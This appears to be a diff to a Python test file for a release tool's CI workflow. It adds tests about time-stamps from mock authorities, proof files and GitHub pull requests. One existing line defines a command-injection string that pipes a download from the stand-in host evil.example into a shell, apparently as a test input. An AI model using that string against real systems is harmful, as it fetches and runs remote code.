@@ -14,6 +14,7 @@ from fake_github import BOT
 from loops import in_thread
 from recorded import changed, payload
 from tiers import every_fourth
+from time_stamping import Authority, known_authorities, open_desks, stamping_world
 
 ISSUE = "issues.opened"
 SHELL = '"; curl evil.example | sh #'
@@ -259,3 +260,71 @@ def test_a_version_is_proposed_with_its_status(signing, tmp_path, capsys):
         event.write_bytes(changed("workflow_dispatch", **values))
         assert main(["ci", "release", "--event", str(event)]) == 2
         assert signing.github.told == []
+
+
+# --- Time-stamps ---------------------------------------------------------------------------------------
+
+
+NORTH, SOUTH = Authority("North"), Authority("South")
+
+
+@pytest.fixture
+def world(monkeypatch):
+    """An internet on this computer, which `charter stamp` asks."""
+    with stamping_world(monkeypatch) as internet:
+        yield internet
+
+
+@pytest.fixture
+def releasing(signing, tmp_path, monkeypatch):
+    """A repository at a forge with a change to release, and two authorities that count."""
+    known_authorities(monkeypatch, tmp_path / "authorities.toml", NORTH, SOUTH, packaged=True)
+    edit_file(signing.folder / "charter" / FIRST, "every day.", "every hour.")
+    write_note(signing.folder / "charter", "moorings-first")
+    commit_all(signing.folder)
+    signing.event = tmp_path / "event.json"
+    return signing
+
+
+def ci_release(releasing, kind):
+    releasing.event.write_bytes(changed("workflow_dispatch", inputs__kind=kind, inputs__date="2025-03-01"))
+    return in_thread(lambda: main(["ci", "release", "--event", str(releasing.event)]))
+
+
+def files_of(releasing, branch):
+    listed = git("ls-tree", "-r", "--name-only", branch, "charter/releases", folder=releasing.origin)
+    return [path.removeprefix("charter/releases/") for path in listed.splitlines()]
+
+
+def test_a_release_that_a_workflow_makes_has_its_time_stamps(releasing, world, tmp_path, capsys):
+    open_desks(world, tmp_path, NORTH, SOUTH)
+    assert ci_release(releasing, "next") == 0
+    assert "2.0.0: these words existed on" in capsys.readouterr().out
+    stems = [f"proofs/{version}.{each.id}.1.tsr" for version in ("1.0.0", "2.0.0") for each in (NORTH, SOUTH)]
+    assert set(stems) < set(files_of(releasing, "release/2.0.0"))
+    told = dict(releasing.github.told)
+    head = git("rev-parse", "release/2.0.0", folder=releasing.origin)
+    assert told[f"POST statuses/{head}"]["state"] == "success"
+
+
+def test_a_release_goes_on_without_what_did_not_come(releasing, world, capsys):
+    assert ci_release(releasing, "next") == 0
+    assert "North gave no time-stamp of 2.0.0: its host has no address." in capsys.readouterr().out
+    assert files_of(releasing, "release/2.0.0") == ["1.0.0.json", "2.0.0.json", "SHA256SUMS"]
+
+
+def test_time_stamps_alone_are_proposed_too(releasing, world, tmp_path, capsys):
+    open_desks(world, tmp_path, NORTH)
+    assert ci_release(releasing, "stamp") == 1  # South did not answer
+    assert files_of(releasing, "time-stamps") == [
+        "1.0.0.json",
+        "SHA256SUMS",
+        "proofs/1.0.0.north.1.tsr",
+        "proofs/north.pem",
+    ]
+    assert dict(releasing.github.told)["POST pulls"]["title"] == "Add time-stamps"
+
+
+def test_nothing_is_proposed_where_no_time_stamp_came(releasing, world, capsys):
+    assert ci_release(releasing, "stamp") == 1
+    assert releasing.github.told == []
